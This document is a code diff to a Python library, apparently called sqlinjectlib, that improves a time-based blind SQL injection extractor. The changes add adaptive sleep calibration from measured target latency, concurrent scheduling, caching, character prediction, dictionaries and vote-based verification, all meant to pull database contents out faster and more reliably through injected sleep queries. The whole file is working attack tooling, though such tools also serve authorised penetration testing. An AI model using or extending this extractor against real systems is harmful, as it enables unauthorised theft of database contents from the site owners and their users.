@@ -1,10 +1,25 @@
 from __future__ import annotations
+from collections.abc import Awaitable, Callable, Sequence
+from concurrent.futures import Executor
+from sqlinjectlib._metrics import Hook, phase
 from sqlinjectlib._sqlinjectlib import InjectorFunction
 from sqlinjectlib._blindinject import BlindInjector
 from sqlinjectlib._databases import DatabaseType, MySQL
+from sqlinjectlib._cache import Cache
+from sqlinjectlib._encodings import Encoding
+from sqlinjectlib._models import CharacterModel
+from sqlinjectlib._scheduler import MAX_IN_FLIGHT, Scheduler, limit
 from sqlinjectlib._typedql import SQL
-from sqlinjectlib._utils import wrap
+from sqlinjectlib._utils import wrap, await_all
 from time import time
+from asyncio import Lock
+from collections import deque
+from statistics import NormalDist, mean, stdev
+
+MIN_PAUSE = 0.1
+"""The shortest time the database is paused if adaptive, shorter pauses get lost in the noise of the timers"""
+RECALIBRATE = 16
+"""The queries sent between two known false queries that keep the latency of the target up to date if adaptive"""
 
 
 class TimeInjector(BlindInjector):
@@ -19,27 +34,159 @@ class TimeInjector(BlindInjector):
         /,
         *,
         concurrent: bool = False,
+        window: int = 1,
+        length_first: bool = False,
+        prefer_false: bool = True,
+        verify: bool = False,
+        votes: int = 3,
+        model: CharacterModel | None = None,
+        dictionary: Sequence[str] = (),
+        prefixes: Sequence[str] = (),
         database_type: DatabaseType = MySQL(),
-        interval: int = 5,
+        scheduler: Scheduler | None = None,
+        max_in_flight: int | None = MAX_IN_FLIGHT,
+        executor: Executor | None = None,
+        hooks: Sequence[Hook] = (),
+        cache: Cache | None = None,
+        pack: bool = False,
+        encoding: Encoding | None = None,
+        interval: float = 5,
+        adaptive: bool = False,
+        error_probability: float = 0.001,
+        samples: int = 10,
     ):
         """
         - injector: function that given a boolean query pauses the execution for interval time if the condition is true
         - concurrent: if the function can be called multiple times concurrently to speed up
+        - window: the number of characters to extract at the same time when the length is unknown,
+            useful only if concurrent
+        - length_first: if the length of a string is extracted before its characters,
+            so that all the characters can be extracted at the same time,
+            the length is read LENGTH_BITS at a time
+        - prefer_false: if every question is asked so that the most likely answer is false,
+            so that fewer queries pause the database
+        - verify: if every extracted value is confirmed with an equality question,
+            on disagreement the value is extracted again asking every question more times
+        - votes: the number of times a question is asked to confirm a value or when a value is extracted again,
+            the majority of the answers is used
+        - model: the model used to predict the characters, so that likely characters need fewer questions,
+            with a model the characters are extracted window at a time even if the length is known
+        - dictionary: the likely values, a string is compared with them before extracting its characters,
+            so that fewer queries are needed
+        - prefixes: the likely beginnings of the strings, compared like the dictionary
         - database_type: the type of the database you are injecting into
-        - interval: the time that has to pass to consider the query true
+        - scheduler: the scheduler that limits the requests sent with the injector, it can be shared
+        - max_in_flight: the most requests sent at the same time if concurrent and no scheduler is given,
+            None for no limit
+        - executor: the executor that runs the injector if it is not a coroutine function,
+            so that blocking injectors can run concurrently, None to run it in the event loop
+        - hooks: the functions called with the event of every call of the injector, like Metrics or Trace
+        - cache: the cache that keeps the results between sessions,
+            with it the recent results are also kept in memory
+        - pack: if all the columns of a row are read as a single value instead of a column at a time,
+            the columns are separated by a single character so that a row costs no more questions than its columns
+        - encoding: the encoding used to transport the values, None to extract them as text
+        - interval: the time that has to pass to consider the query true,
+            if adaptive the longest time the database is paused
+        - adaptive: if the pause is computed from the latency of the target, measured with known false
+            queries before the first query, concurrently if concurrent, and every RECALIBRATE queries,
+            so that the latency under load is measured too
+        - error_probability: the highest probability of reading a wrong result, used if adaptive
+        - samples: the number of latencies measured before the first query, used if adaptive
+        - raises ValueError: if the error probability is not between 0 and 1 or samples is less than 2
         """
-        self.__injector = wrap(injector)
+        if not 0 < error_probability < 1:
+            raise ValueError(
+                f"The error probability must be between 0 and 1, found '{error_probability}'"
+            )
+        if samples < 2:
+            raise ValueError(f"At least 2 samples are needed, found '{samples}'")
+        self.__injector = wrap(
+            timed(wrap(injector, None, executor)),
+            limit(scheduler, concurrent, max_in_flight),
+            None,
+            hooks,
+            "time",
+            1,
+        )
+        self.__concurrent = concurrent
+        self.__queries = 0
         self.__interval = interval
+        self.__adaptive = adaptive
+        self.__z = NormalDist().inv_cdf(1 - error_probability)
+        self.__samples = samples
+        self.__latencies: deque[float] = deque(maxlen=samples * 5)
+        self.__calibration = Lock()
         super().__init__(
-            self.__call, database_type=database_type, concurrent=concurrent
+            self.__call,
+            database_type=database_type,
+            concurrent=concurrent,
+            max_in_flight=None,
+            window=window,
+            length_first=length_first,
+            prefer_false=prefer_false,
+            verify=verify,
+            votes=votes,
+            model=model,
+            dictionary=dictionary,
+            prefixes=prefixes,
+            cache=cache,
+            pack=pack,
+            encoding=encoding,
         )
 
+    @property
+    def pause(self) -> float:
+        """The time the database is paused when a query is true"""
+        if not self.__adaptive or len(self.__latencies) < 2:
+            return self.__interval
+        average = mean(self.__latencies)
+        spread = max(
+            self.__z * stdev(self.__latencies), max(self.__latencies) - average
+        )
+        return min(max(2 * spread, MIN_PAUSE), self.__interval)
+
     async def __call(self, query: SQL[bool]) -> bool:
-        start = time()
-        await self.__injector(
+        if not self.__adaptive:
+            return await self.__measure(query, self.__interval) > self.__interval
+        await self.__calibrate()
+        self.__queries += 1
+        if self.__queries % RECALIBRATE == 0:
+            with phase("calibration"):
+                self.__latencies.append(await self.__measure(SQL.bool(False), 0))
+        pause = self.pause
+        delta = await self.__measure(query, pause)
+        return delta > max(mean(self.__latencies) + pause / 2, pause)
+
+    async def __measure(self, query: SQL[bool], pause: float) -> float:
+        return await self.__injector(
             self.database_type.if_else(
-                query, self.database_type.sleep(SQL.int(self.__interval)), SQL.none()
+                query, self.database_type.sleep(SQL(f"{pause:g}")), SQL.none()
             )
         )
-        delta = time() - start
-        return delta > self.__interval
+
+    async def __calibrate(self) -> None:
+        async with self.__calibration:
+            missing = self.__samples - len(self.__latencies)
+            if missing <= 0:
+                return
+            with phase("calibration"):
+                self.__latencies.extend(
+                    await await_all(
+                        [self.__measure(SQL.bool(False), 0) for _ in range(missing)],
+                        self.__concurrent,
+                    )
+                )
+
+
+def timed(
+    function: Callable[[SQL[int]], Awaitable[None]]
+) -> Callable[[SQL[int]], Awaitable[float]]:
+    """Measures the seconds a function takes, so that the time waited for the scheduler is not counted"""
+
+    async def result(sql: SQL[int]) -> float:
+        start = time()
+        await function(sql)
+        return time() - start
+
+    return result